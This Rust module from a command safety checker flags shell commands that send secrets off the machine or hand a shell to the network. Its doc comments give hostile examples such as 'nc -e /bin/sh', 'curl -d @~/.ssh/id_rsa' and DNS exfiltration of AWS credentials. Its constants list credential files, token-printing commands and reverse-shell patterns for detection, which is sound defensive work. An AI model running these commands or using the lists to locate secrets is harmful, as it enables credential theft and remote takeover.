//! Secrets sent off the machine, and shells handed to the network.
//!
//! A command is flagged when a program that sends data over the network (`curl`, `wget`,
//! `nc`, `socat`, `telnet`, `ssh`, `scp`, `rsync`, `gh gist create`, `aws s3 cp`, DNS lookups,
//! …) is given a secret as what it sends: a secret file (SSH keys, cloud and registry
//! credentials, `.netrc`, `/etc/shadow`, the project's `.env`, …) named as its payload
//! (`curl -d @~/.ssh/id_rsa`, `scp ~/.aws/credentials host:`), redirected into it
//! (`nc host 1 < ~/.ssh/id_rsa`) or piped into it by an earlier stage (`tar cz ~/.ssh | curl
//! -T - …`); the whole environment (`env`, `printenv`, `set`, `/proc/*/environ`); the output
//! of a command that prints a token (`gh auth token`, `gcloud auth print-access-token`); or a
//! secret-named variable (`$OPENAI_API_KEY`) in what it sends or in the address it sends to
//! (`curl "https://host/?k=$API_KEY"`, `dig $(cat ~/.aws/credentials | base64).host`).
//!
//! Credentials sent the way services expect them stay allowed: a token in a header (`curl -H
//! "Authorization: Bearer $TOKEN"`, `-H "…$(gh auth token)"`), `-u user:$PASS`, the user part of
//! a URL (`https://x:$TOKEN@host`). A key in a URL's query (`?api_key=$KEY`) is asked about: it
//! is also how a secret is leaked, and the checker cannot tell whose host it is.
//!
//! Reverse and bind shells are flagged too: `nc -e /bin/sh`, `ncat --exec`, `socat
//! exec:… tcp:…`, a shell redirected to `/dev/tcp/…`, a shell piped into `nc`, and interpreter
//! code that joins a socket to a shell (`pty.spawn`, `dup2`).

use std::path::{Path, PathBuf};

use super::system::absolute_paths;
use super::{Report, Rule, Site};
use crate::argv::{self, split};
use crate::script::{SimpleCommand, Word};

/// Shells, as the programs a reverse shell hands the connection to.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "yash",
];

/// Programs that send their standard input over a raw connection.
const SOCKET_TOOLS: &[&str] = &["nc", "ncat", "netcat", "telnet", "socat", "openssl"];

/// Files in any home directory (`~/…`, `/root/…`) that hold credentials.
const SECRET_HOME_FILES: &[&str] = &[
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".pgpass",
    ".my.cnf",
    ".vault-token",
    ".bash_history",
    ".zsh_history",
    ".docker/config.json",
    ".kube/config",
    ".cargo/credentials",
    ".cargo/credentials.toml",
    ".terraform.d/credentials.tfrc.json",
    ".config/gh/hosts.yml",
];

/// Directories in any home directory whose every file is a credential (for `.ssh`, see
/// [`PUBLIC_SSH_FILES`]).
const SECRET_HOME_DIRS: &[&str] = &[
    ".ssh",
    ".aws",
    ".azure",
    ".gnupg",
    ".password-store",
    ".config/gh",
    ".config/gcloud",
    ".local/share/keyrings",
];

/// Files in `~/.ssh` that are public: sending them gives nothing away.
const PUBLIC_SSH_FILES: &[&str] = &["known_hosts", "known_hosts.old", "authorized_keys"];

/// System files and directories that hold passwords, host keys or service tokens.
const SECRET_SYSTEM_PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/master.passwd",
    "/etc/ssh",
    "/var/run/secrets",
    "/run/secrets",
];

/// Private key files by name, wherever they lie.
const KEY_FILE_NAMES: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "id_ecdsa_sk",
    "id_ed25519_sk",
];

/// Extensions of private keys and key stores (`.pem` is left out: it is as often a
/// certificate, which is public).
const KEY_EXTENSIONS: &[&str] = &["key", "p12", "pfx", "jks", "keystore"];

/// Suffixes of `.env.*` files that are templates, not secrets.
const ENV_TEMPLATES: &[&str] = &["example", "sample", "template", "dist", "defaults"];

/// Words that make a variable's name a secret's (`OPENAI_API_KEY`, `DB_PASSWORD`).
const SECRET_NAME_PARTS: &[&str] = &[
    "KEY",
    "KEYS",
    "APIKEY",
    "TOKEN",
    "TOKENS",
    "SECRET",
    "SECRETS",
    "PASSWORD",
    "PASSWD",
    "PASS",
    "CREDENTIALS",
    "CREDS",
    "PAT",
];

/// Commands that print a credential: `(program, leading words)`.
const TOKEN_COMMANDS: &[(&str, &[&str])] = &[
    ("gh", &["auth", "token"]),
    ("glab", &["auth", "token"]),
    ("aws", &["configure", "get"]),
    ("aws", &["configure", "export-credentials"]),
    ("aws", &["sts", "get-session-token"]),
    ("gcloud", &["auth", "print-access-token"]),
    ("gcloud", &["auth", "print-identity-token"]),
    (
        "gcloud",
        &["auth", "application-default", "print-access-token"],
    ),
    ("az", &["account", "get-access-token"]),
    ("heroku", &["auth:token"]),
    ("vault", &["read"]),
    ("vault", &["kv", "get"]),
    ("pass", &["show"]),
    ("op", &["read"]),
    ("security", &["find-generic-password"]),
    ("security", &["find-internet-password"]),
    ("git", &["credential", "fill"]),
    ("kubectl", &["config", "view", "--raw"]),
    ("gpg", &["--export-secret-keys"]),
];

/// Where a secret comes from, as a refusal names it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Secret {
    /// A credential file.
    File(PathBuf),
    /// The whole environment, with every token in it.
    Environment,
    /// The output of a command that prints a token.
    Token(String),
    /// A variable named like a secret.
    Variable(String),
}

impl Secret {
    fn describe(&self) -> String {
        match self {
            Secret::File(path) => format!("the secret file {}", path.display()),
            Secret::Environment => "the environment, with every token in it".to_string(),
            Secret::Token(command) => format!("the credential `{command}` prints"),
            Secret::Variable(name) => format!("the secret ${name}"),
        }
    }

    /// Whether it may go where credentials are expected (a header, `-u`): a token does, a
    /// key file or the environment never does.
    fn is_credential(&self) -> bool {
        matches!(self, Secret::Token(_) | Secret::Variable(_))
    }
}

/// Whether `path` holds a credential (see the module doc).
fn secret_path(path: &Path) -> bool {
    let text = path.to_string_lossy();
    if SECRET_SYSTEM_PATHS
        .iter()
        .any(|p| path.starts_with(p) && !(p.ends_with("/ssh") && text.ends_with(".pub")))
    {
        return !text.ends_with("ssh_config") && !text.contains("ssh_config.d");
    }
    let components: Vec<&str> = path
        .components()
        .map(|c| c.as_os_str().to_str().unwrap_or(""))
        .collect();
    if components.len() >= 3
        && components[1] == "proc"
        && components.last().is_some_and(|c| *c == "environ")
    {
        return true;
    }
    let name = components.last().copied().unwrap_or("");
    if KEY_FILE_NAMES.contains(&name)
        || Path::new(name)
            .extension()
            .and_then(|e| e.to_str())
            .is_some_and(|e| KEY_EXTENSIONS.contains(&e))
    {
        return true;
    }
    if name == ".env"
        || name
            .strip_prefix(".env.")
            .is_some_and(|rest| !ENV_TEMPLATES.contains(&rest))
    {
        return true;
    }
    // A credential file or directory of a home directory: any path with its components.
    (0..components.len()).any(|i| {
        let rest = components[i..].join("/");
        SECRET_HOME_FILES.contains(&rest.as_str())
            || SECRET_HOME_DIRS.iter().any(|dir| {
                (rest == *dir || rest.starts_with(&format!("{dir}/")))
                    && !(*dir == ".ssh"
                        && (name.ends_with(".pub") || PUBLIC_SSH_FILES.contains(&name)))
            })
    })
}

/// Whether `name` is a secret's name: one of its `_`-separated parts is a secret word, or ends
/// in one (`PGPASSWORD`, `GH_TOKEN`).
pub(super) fn secret_variable(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.split('_').any(|part| {
        SECRET_NAME_PARTS.contains(&part)
            || ["PASSWORD", "TOKEN", "SECRET", "APIKEY"]
                .iter()
                .any(|word| part.len() > word.len() && part.ends_with(word))
    })
}

/// The secret-named variables expanded in `text` (`$X`, `${X}`, `${X:-…}`).
fn secret_variables(text: &str) -> Option<String> {
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        rest = &rest[at + 1..];
        let name_start = rest.strip_prefix('{').unwrap_or(rest);
        let name: String = name_start
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        if !name.is_empty() && secret_variable(&name) {
            return Some(name);
        }
    }
    None
}

/// What reading the commands of the script in `range` gives away.
fn commands_secret(site: &Site<'_>, range: std::ops::Range<usize>) -> Option<Secret> {
    let commands = site.script.commands.get(range).unwrap_or(&[]);
    commands.iter().find_map(|c| command_secret(site, c))
}

/// The secret a command prints: a secret file it reads (named or redirected), the
/// environment, a token, or a secret-named variable in its words or its here-string.
fn command_secret(site: &Site<'_>, command: &SimpleCommand) -> Option<Secret> {
    let invocation = argv::unwrap(&command.argv);
    let argv = invocation.argv;
    if argv.is_empty() && command.argv.iter().any(|w| w.is("env")) {
        return Some(Secret::Environment);
    }
    if let Some(program) = argv.first().and_then(argv::program) {
        let args = &argv[1..];
        if prints_environment(program, args) {
            return Some(Secret::Environment);
        }
        let token = TOKEN_COMMANDS.iter().find(|(name, words)| {
            *name == program
                && words.len() <= args.len()
                && words.iter().zip(args).all(|(w, a)| a.is(w))
        });
        if token.is_some() {
            return Some(Secret::Token(super::words_text(argv)));
        }
    }
    for word in argv.iter().chain(&command.inputs) {
        if let Some(path) = paths(site, command, word, word.text()).into_iter().next() {
            return Some(Secret::File(path));
        }
        if let Some(name) = secret_variables(&word.raw) {
            return Some(Secret::Variable(name));
        }
    }
    command
        .stdin
        .as_ref()
        .and_then(|stdin| secret_variables(&stdin.raw))
        .map(Secret::Variable)
}

/// Whether `PROGRAM ARGS` prints every variable of the environment.
fn prints_environment(program: &str, args: &[Word]) -> bool {
    let operands = args.iter().filter(|w| !w.text().starts_with('-')).count();
    match program {
        "printenv" => args
            .iter()
            .all(|w| w.text().starts_with('-') || secret_variable(w.text())),
        "set" | "export" => args.iter().all(|w| w.is("-p")),
        "declare" | "typeset" => {
            operands == 0 && args.iter().any(|w| w.is("-p") || w.is("-x") || w.is("-px"))
        }
        "compgen" => args.iter().any(|w| w.is("-e") || w.is("-v")),
        _ => false,
    }
}

/// The secret files `text` (a path as written in `word`, or part of it) names, from where
/// `command` runs; a leading `~/` is the home directory even where the shell would not expand
/// it (`curl -d @~/.ssh/id_rsa`).
fn paths(site: &Site<'_>, command: &SimpleCommand, word: &Word, text: &str) -> Vec<PathBuf> {
    let expanded = match (text.strip_prefix("~/"), site.env.home) {
        (Some(rest), Some(home)) => home.join(rest).display().to_string(),
        _ => text.to_string(),
    };
    let mut word = Word {
        values: vec![expanded],
        ..word.clone()
    };
    // `@$HOME/.ssh/id_rsa` is known once `$HOME` is expanded; only a truly unknown path is not.
    word.dynamic = word.values[0].contains('$') || word.values[0].contains('`');
    absolute_paths(&word, &command.cwd)
        .into_iter()
        .filter(|p| secret_path(p))
        .collect()
}

/// What a network sender is given to send, sorted by how it is judged.
#[derive(Debug, Default)]
struct Sent {
    /// Files it sends, as written (`@-`, `-` and `/dev/stdin` mean its standard input).
    files: Vec<(Word, String)>,
    /// Data and addresses: a secret in them, of any kind, is sent.
    data: Vec<Word>,
    /// Credentials it authenticates with (headers, `-u`): only a secret file or the
    /// environment there is a leak.
    credentials: Vec<Word>,
    /// Whether it sends its standard input.
    stdin: bool,
}

impl Sent {
    fn file(&mut self, word: &Word, path: &str) {
        if matches!(path, "-" | "/dev/stdin" | ".") {
            self.stdin = true;
        } else {
            self.files.push((word.clone(), path.to_string()));
        }
    }
}

/// The value of option `name` as written: `--name=value` is split off a word of `args`, whose
/// source and substitutions it keeps.
fn written_value(args: &[Word], name: &str, value: &Word) -> Word {
    let prefix = format!("{name}=");
    match args
        .iter()
        .find(|w| w.text().starts_with(&prefix) && !w.subs.is_empty())
    {
        Some(word) if value.subs.is_empty() => Word {
            values: value.values.clone(),
            ..word.clone()
        },
        _ => value.clone(),
    }
}

/// `curl` options that take a value.
const CURL_VALUES: &[&str] = &[
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "-H",
    "--header",
    "-u",
    "--user",
    "--oauth2-bearer",
    "-U",
    "--proxy-user",
    "-o",
    "--output",
    "-X",
    "--request",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "--url",
    "-K",
    "--config",
    "-x",
    "--proxy",
    "-m",
    "--max-time",
    "--connect-timeout",
    "-w",
    "--write-out",
    "-r",
    "--range",
    "--retry",
    "-E",
    "--cert",
    "--key",
    "--cacert",
    "--capath",
    "--resolve",
    "--connect-to",
    "-C",
    "--continue-at",
    "-y",
    "--speed-time",
    "-Y",
    "--speed-limit",
    "--limit-rate",
    "--interface",
    "--dns-servers",
];

/// What `curl ARGS` sends.
fn curl(args: &[Word]) -> Sent {
    let parsed = split(args, CURL_VALUES);
    let mut sent = Sent::default();
    for (name, value) in &parsed.values {
        let value = &written_value(args, name, value);
        let text = value.text();
        match name.as_str() {
            "-d" | "--data" | "--data-binary" | "--data-ascii" | "--json" => {
                match text.strip_prefix('@') {
                    Some(path) => sent.file(value, path),
                    None => sent.data.push(value.clone()),
                }
            }
            "--data-urlencode" => match text.split_once('@') {
                Some((name, path)) if !name.contains('=') => sent.file(value, path),
                _ => sent.data.push(value.clone()),
            },
            "-F" | "--form" => {
                let content = text.split_once('=').map_or(text, |(_, v)| v);
                match content.strip_prefix('@').or(content.strip_prefix('<')) {
                    Some(path) => sent.file(value, path.split(';').next().unwrap_or(path)),
                    None => sent.data.push(value.clone()),
                }
            }
            "-T" | "--upload-file" => sent.file(value, text),
            "--data-raw" | "--form-string" | "--url" => sent.data.push(value.clone()),
            "-H" | "--header" | "-u" | "--user" | "--oauth2-bearer" | "-U" | "--proxy-user"
            | "-b" | "--cookie" => match text.strip_prefix('@') {
                Some(path) => sent.file(value, path),
                None => sent.credentials.push(value.clone()),
            },
            _ => {}
        }
    }
    // `-d@file`, `-Ffield=@file`, `-Tfile`: a short option with its value attached.
    for flag in &parsed.flags {
        let attached = ["-d", "-F", "-T"]
            .iter()
            .find_map(|o| flag.strip_prefix(o).map(|value| (*o, value)));
        if let Some((option, value)) = attached.filter(|(_, v)| !v.is_empty()) {
            let word = Word::synthetic(value.to_string(), false);
            let content = match option {
                "-F" => value.split_once('=').map_or(value, |(_, v)| v),
                "-d" => value,
                _ => {
                    sent.file(&word, value);
                    continue;
                }
            };
            match content.strip_prefix('@').or(content.strip_prefix('<')) {
                Some(path) => sent.file(&word, path),
                None => sent.data.push(word),
            }
        }
    }
    sent.data.extend(parsed.operands.into_iter().cloned());
    sent
}

/// `wget` options that take a value.
const WGET_VALUES: &[&str] = &[
    "--post-file",
    "--body-file",
    "--post-data",
    "--body-data",
    "--header",
    "-O",
    "--output-document",
    "-o",
    "--output-file",
    "-P",
    "--directory-prefix",
    "-U",
    "--user-agent",
    "--method",
    "--user",
    "--password",
    "-t",
    "--tries",
    "-T",
    "--timeout",
    "-e",
    "--execute",
];

/// What `wget ARGS` sends.
fn wget(args: &[Word]) -> Sent {
    let parsed = split(args, WGET_VALUES);
    let mut sent = Sent::default();
    for (name, value) in &parsed.values {
        let value = &written_value(args, name, value);
        match name.as_str() {
            "--post-file" | "--body-file" => sent.file(value, value.text()),
            "--post-data" | "--body-data" => sent.data.push(value.clone()),
            "--header" | "--user" | "--password" => sent.credentials.push(value.clone()),
            _ => {}
        }
    }
    sent.data.extend(parsed.operands.into_iter().cloned());
    sent
}

/// What HTTPie (`http`, `https`) or `xh` sends: `field=@file` and `@file` items are files,
/// `Header:value` items are credentials, anything else data; it sends what it is piped.
fn httpie(args: &[Word]) -> Sent {
    let mut sent = Sent {
        stdin: !args.iter().any(|w| w.is("--ignore-stdin") || w.is("-I")),
        ..Sent::default()
    };
    for word in args.iter().filter(|w| !w.text().starts_with('-')) {
        let text = word.text();
        let header = text
            .find(':')
            .is_some_and(|colon| !text[..colon].contains(['=', '/', '@']) && !text.contains("://"))
            && !text[text.find(':').unwrap_or(0)..].starts_with(":=");
        let field_file = text.split_once('@').filter(|(field, _)| {
            field
                .trim_end_matches('=')
                .trim_end_matches(':')
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        });
        if let Some((_, path)) = field_file {
            sent.file(word, path);
        } else if let Some(path) = text.strip_prefix('@') {
            sent.file(word, path);
        } else if header {
            sent.credentials.push(word.clone());
        } else {
            sent.data.push(word.clone());
        }
    }
    sent
}

/// Whether `text` names a place on another machine (`host:path`, `user@host:`, `s3://b/k`).
fn remote(text: &str) -> bool {
    if text.contains("://") {
        return !text.starts_with("file://");
    }
    match text.find(':') {
        Some(colon) => {
            let host = &text[..colon];
            !host.is_empty() && !host.contains('/')
        }
        None => false,
    }
}

/// What a copier (`scp`, `rsync`, `rclone copy`, `aws s3 cp`) sends: its sources, when its
/// destination (the last operand) is on another machine.
fn copier(operands: &[&Word]) -> Sent {
    let mut sent = Sent::default();
    if let Some((destination, sources)) = operands.split_last()
        && remote(destination.text())
    {
        for source in sources.iter().filter(|s| !remote(s.text())) {
            sent.file(source, source.text());
        }
    }
    sent
}

/// What `PROGRAM ARGS` sends over the network, if it is a network sender.
fn sends(program: &str, args: &[Word]) -> Option<Sent> {
    let operands = |values: &[&str]| split(args, values).operands;
    let sent = match program {
        "curl" => curl(args),
        "wget" => wget(args),
        "http" | "https" | "xh" | "xhs" => httpie(args),
        "nc" | "ncat" | "netcat" | "telnet" => Sent {
            stdin: !args.iter().any(|w| w.is("-z")),
            ..Sent::default()
        },
        "openssl" => Sent {
            stdin: args.first().is_some_and(|w| w.is("s_client")),
            ..Sent::default()
        },
        "socat" => {
            let mut sent = Sent::default();
            for word in args
                .iter()
                .filter(|w| !w.text().starts_with('-') || w.is("-"))
            {
                let text = word.text();
                let lower = text.to_ascii_lowercase();
                if text == "-" || lower.starts_with("stdin") || lower.starts_with("stdio") {
                    sent.stdin = true;
                }
                let file = ["file:", "open:", "gopen:"]
                    .iter()
                    .find_map(|p| lower.starts_with(p).then(|| &text[p.len()..]));
                if let Some(path) = file {
                    sent.file(word, path.split(',').next().unwrap_or(path));
                }
            }
            sent
        }
        "ssh" => {
            let parsed = split(
                args,
                &[
                    "-i", "-p", "-o", "-l", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-e",
                    "-m", "-O", "-Q", "-S", "-W", "-w", "-B",
                ],
            );
            Sent {
                stdin: !parsed.operands.is_empty()
                    && !parsed.has("-n", Some('n'))
                    && !parsed.has("-N", Some('N')),
                ..Sent::default()
            }
        }
        "sftp" | "ftp" | "lftp" | "mail" | "mailx" | "sendmail" | "msmtp" | "mutt" => Sent {
            stdin: true,
            ..Sent::default()
        },
        "scp" => copier(&operands(&[
            "-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-X",
        ])),
        "rsync" => copier(&operands(&[
            "-e",
            "--rsh",
            "--exclude",
            "--include",
            "--filter",
            "-f",
            "--exclude-from",
            "--include-from",
            "--files-from",
            "--rsync-path",
            "--port",
            "--password-file",
            "-T",
            "--temp-dir",
            "--chmod",
            "--chown",
            "--log-file",
            "--partial-dir",
            "--backup-dir",
            "--suffix",
            "--compare-dest",
            "--copy-dest",
            "--link-dest",
        ])),
        "rclone" | "gsutil" => {
            let ops = operands(&["--config", "-c", "--transfers"]);
            match ops.split_first() {
                Some((verb, rest))
                    if matches!(
                        verb.text(),
                        "copy" | "copyto" | "sync" | "move" | "moveto" | "cp" | "mv" | "rsync"
                    ) =>
                {
                    copier(rest)
                }
                Some((verb, [destination])) if verb.is("rcat") && remote(destination.text()) => {
                    Sent {
                        stdin: true,
                        ..Sent::default()
                    }
                }
                _ => return None,
            }
        }
        "aws" | "gcloud" => {
            let ops = operands(&["--profile", "--region", "--endpoint-url", "--project"]);
            let storage = ops.first().is_some_and(|w| w.is("s3") || w.is("storage"));
            let copies = ops
                .get(1)
                .is_some_and(|w| matches!(w.text(), "cp" | "mv" | "sync"));
            if !(storage && copies) {
                return None;
            }
            let mut sent = copier(&ops[2..]);
            if ops.get(2).is_some_and(|w| w.is("-")) && ops.len() > 3 {
                sent.stdin = true;
            }
            sent
        }
        "gh" => {
            let ops = operands(&["-d", "--desc", "-f", "--filename"]);
            if !(ops.first().is_some_and(|w| w.is("gist"))
                && ops.get(1).is_some_and(|w| w.is("create") || w.is("new")))
            {
                return None;
            }
            let mut sent = Sent::default();
            for file in &ops[2..] {
                sent.file(file, file.text());
            }
            sent.stdin |= ops.len() == 2;
            sent
        }
        "croc" | "wormhole" | "ffsend" => {
            let ops = operands(&[]);
            let mut sent = Sent::default();
            for file in ops.iter().skip(1) {
                sent.file(file, file.text());
            }
            sent
        }
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" => Sent {
            data: operands(&["-c", "-t", "-p", "-i", "-W", "-w", "-s"])
                .into_iter()
                .cloned()
                .collect(),
            ..Sent::default()
        },
        _ => return None,
    };
    Some(sent)
}

/// The rule for one command: a network sender given a secret, or a shell handed to the network.
pub(super) fn command(site: &Site<'_>, program: &str, report: &mut Report) {
    reverse_shell(site, program, report);
    let Some(sent) = sends(program, site.args()) else {
        return;
    };
    let command = site.command;
    let secret = sent
        .files
        .iter()
        .find_map(|(word, path)| paths(site, command, word, path).into_iter().next())
        .map(Secret::File)
        .or_else(|| {
            sent.data.iter().find_map(|word| {
                secret_variables(&word.raw)
                    .map(Secret::Variable)
                    .or_else(|| commands_secret(site, word.subs.clone()))
            })
        })
        .or_else(|| {
            sent.credentials.iter().find_map(|word| {
                commands_secret(site, word.subs.clone()).filter(|s| !s.is_credential())
            })
        })
        .or_else(|| {
            if !sent.stdin {
                return None;
            }
            command
                .inputs
                .iter()
                .find_map(|word| paths(site, command, word, word.text()).into_iter().next())
                .map(Secret::File)
                .or_else(|| {
                    let stdin = command.stdin.as_ref()?;
                    secret_variables(&stdin.raw)
                        .map(Secret::Variable)
                        .or_else(|| commands_secret(site, stdin.subs.clone()))
                })
                .or_else(|| commands_secret(site, command.upstream.clone()?))
        });
    if let Some(secret) = secret {
        site.find(
            report,
            Rule::Exfiltration,
            format!(
                "{} sends {} over the network.",
                site.quoted(),
                secret.describe()
            ),
        );
    }
}

/// `nc -e /bin/sh`, `ncat --exec`, `socat exec:… tcp:…`, `bash -i >& /dev/tcp/…`, `sh -i |
/// nc …`: a shell whoever is at the other end of a connection can type into.
fn reverse_shell(site: &Site<'_>, program: &str, report: &mut Report) {
    let args = site.args();
    let how = match program {
        "nc" | "ncat" | "netcat" => {
            let parsed = split(
                args,
                &[
                    "-e",
                    "-c",
                    "--exec",
                    "--sh-exec",
                    "--lua-exec",
                    "-p",
                    "-s",
                    "-w",
                    "-i",
                    "-q",
                ],
            );
            let runs = parsed
                .value_of(&["-e", "--exec", "--sh-exec", "--lua-exec"])
                .is_some()
                || parsed.value_of(&["-c"]).is_some_and(|w| {
                    w.text()
                        .split(|c: char| c.is_whitespace() || c == '/')
                        .any(|part| SHELLS.contains(&part))
                })
                || parsed
                    .values
                    .iter()
                    .any(|(name, _)| name.starts_with("--exec") || name.starts_with("--sh-exec"));
            runs.then_some("runs a program for whoever connects")
        }
        "socat" => {
            let addresses: Vec<String> = args
                .iter()
                .filter(|w| !w.text().starts_with('-'))
                .map(|w| w.text().to_ascii_lowercase())
                .collect();
            let runs = addresses
                .iter()
                .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
            let network = addresses.iter().any(|a| {
                ["tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy"]
                    .iter()
                    .any(|p| a.starts_with(p))
            });
            (runs && network).then_some("connects a program to the network")
        }
        _ if SHELLS.contains(&program) && redirects_to_socket(site.command) => {
            Some("connects a shell to the network through /dev/tcp")
        }
        _ => None,
    };
    let piped_shell = SOCKET_TOOLS.contains(&program)
        && site.command.upstream.clone().is_some_and(|range| {
            site.script
                .commands
                .get(range)
                .unwrap_or(&[])
                .iter()
                .any(|c| interactive_shell(&c.argv))
        });
    let how = how.or(piped_shell.then_some("feeds a shell's output to the network"));
    if let Some(how) = how {
        site.find(
            report,
            Rule::Exfiltration,
            format!(
                "{} {how}: a remote shell on this machine for whoever is at the other end.",
                site.quoted()
            ),
        );
    }
}

/// Whether the command's input or output is a `/dev/tcp` or `/dev/udp` connection.
fn redirects_to_socket(command: &SimpleCommand) -> bool {
    command
        .inputs
        .iter()
        .chain(&command.outputs)
        .any(|w| w.text().starts_with("/dev/tcp/") || w.text().starts_with("/dev/udp/"))
}

/// `exec 5<>/dev/tcp/host/80`: the shell itself keeps a connection open, to read commands from
/// or to send to.
pub(super) fn opened_socket(site: &Site<'_>, report: &mut Report) {
    let bare_exec =
        site.command.argv.first().is_some_and(|w| w.is("exec")) && site.invocation.argv.is_empty();
    if bare_exec && redirects_to_socket(site.command) {
        site.find(
            report,
            Rule::Exfiltration,
            format!(
                "{} opens a network connection in the shell itself, the start of a remote \
                 shell or of sending data out.",
                site.quoted()
            ),
        );
    }
}

/// Whether `argv` runs a shell reading commands from its input (`sh -i`, `bash`, `/bin/sh`).
fn interactive_shell(argv: &[Word]) -> bool {
    let invocation = argv::unwrap(argv);
    let Some(program) = invocation.argv.first().and_then(argv::program) else {
        return false;
    };
    SHELLS.contains(&program)
        && invocation.argv[1..]
            .iter()
            .all(|w| w.text().starts_with('-') && !w.text().contains('c'))
}

/// Network calls of interpreter code, as text.
const CODE_SENDERS: &[&str] = &[
    "requests.",
    "urllib",
    "http.client",
    "httpx",
    "socket",
    "fetch(",
    "axios",
    "http.request",
    "https.request",
    "net.connect",
    "Net::HTTP",
    "LWP",
    "HTTP::Tiny",
    "IO::Socket",
    "TCPSocket",
    "fsockopen",
    "curl_exec",
    "file_get_contents(\"http",
    "file_get_contents('http",
];

/// Interpreter code reading the whole environment.
const CODE_ENVIRONMENT: &[&str] = &[
    "os.environ)",
    "os.environ.items()",
    "os.environ.copy()",
    "dict(os.environ",
    "process.env)",
    "process.env,",
    "%ENV",
    "ENV.to_h",
    "getenv()",
    "$_ENV",
    "/proc/self/environ",
];

/// What starts a shell in interpreter code (for a reverse shell, next to a socket).
const CODE_SHELLS: &[&str] = &[
    "pty.spawn",
    "dup2",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
];

/// Secret files as interpreter code names them in its strings.
const CODE_SECRET_FILES: &[&str] = &[
    ".ssh/id_",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".docker/config.json",
    ".kube/config",
    ".config/gh/hosts.yml",
    ".pypirc",
    ".npmrc",
    "/etc/shadow",
];

/// Interpreter code that sends a secret file or the environment over the network, or joins
/// a socket to a shell. The code is read as text: a network call and a secret (or a shell)
/// anywhere in it.
pub(super) fn interpreter_code(site: &Site<'_>, code: &str, report: &mut Report) {
    let networked = CODE_SENDERS.iter().any(|s| code.contains(s));
    if !networked {
        return;
    }
    let socket = [
        "socket",
        "TCPSocket",
        "fsockopen",
        "IO::Socket",
        "net.connect",
        "net.Socket",
    ]
    .iter()
    .any(|s| code.contains(s));
    let what = if socket && CODE_SHELLS.iter().any(|s| code.contains(s)) {
        Some("joins a network socket to a shell: a remote shell on this machine".to_string())
    } else if let Some(file) = CODE_SECRET_FILES.iter().find(|f| code.contains(*f)) {
        Some(format!("sends the secret file {file} over the network"))
    } else if CODE_ENVIRONMENT.iter().any(|s| code.contains(s)) {
        Some("sends the environment, with every token in it, over the network".to_string())
    } else {
        None
    };
    if let Some(what) = what {
        site.find(
            report,
            Rule::Exfiltration,
            format!("{} runs code that {what}.", site.quoted()),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credential_files_are_secret_and_public_keys_are_not() {
        for path in [
            "/home/ann/.ssh/id_rsa",
            "/home/ann/.ssh",
            "/root/.aws/credentials",
            "/home/ann/.netrc",
            "/home/ann/.docker/config.json",
            "/home/ann/.kube/config",
            "/home/ann/.config/gh/hosts.yml",
            "/etc/shadow",
            "/etc/ssh/ssh_host_ed25519_key",
            "/proc/self/environ",
            "/proc/1/environ",
            "/home/ann/proj/.env",
            "/home/ann/proj/.env.production",
            "/srv/tls/server.key",
        ] {
            assert!(secret_path(Path::new(path)), "{path}");
        }
        for path in [
            "/home/ann/.ssh/id_rsa.pub",
            "/home/ann/.ssh/known_hosts",
            "/home/ann/.ssh/authorized_keys",
            "/etc/ssh/ssh_host_ed25519_key.pub",
            "/etc/ssh/ssh_config",
            "/etc/passwd",
            "/home/ann/proj/.env.example",
            "/home/ann/proj/payload.json",
            "/home/ann/proj/build/app.tar.gz",
        ] {
            assert!(!secret_path(Path::new(path)), "{path}");
        }
    }

    #[test]
    fn secret_variables_are_told_by_the_parts_of_their_names() {
        for name in [
            "OPENAI_API_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN",
            "DB_PASSWORD",
            "PGPASSWORD",
            "NPM_TOKEN",
            "api_key",
        ] {
            assert!(secret_variable(name), "{name}");
        }
        for name in [
            "HOME",
            "PATH",
            "SSH_AUTH_SOCK",
            "MONKEY",
            "KEYBOARD",
            "PWD",
            "HOST",
        ] {
            assert!(!secret_variable(name), "{name}");
        }
    }

    #[test]
    fn secret_variables_are_found_in_any_expansion_form() {
        assert_eq!(
            secret_variables("k=$OPENAI_API_KEY&x=1").as_deref(),
            Some("OPENAI_API_KEY")
        );
        assert_eq!(
            secret_variables("${GH_TOKEN:-x}").as_deref(),
            Some("GH_TOKEN")
        );
        assert_eq!(secret_variables("$HOME/$USER"), None);
    }

    #[test]
    fn remote_places_are_host_colon_path_or_urls() {
        assert!(remote("deploy@host:/srv"));
        assert!(remote("host:"));
        assert!(remote("s3://bucket/key"));
        assert!(!remote("build/app:1.tar"));
        assert!(!remote("./a:b"));
        assert!(!remote("/tmp/x"));
    }
}
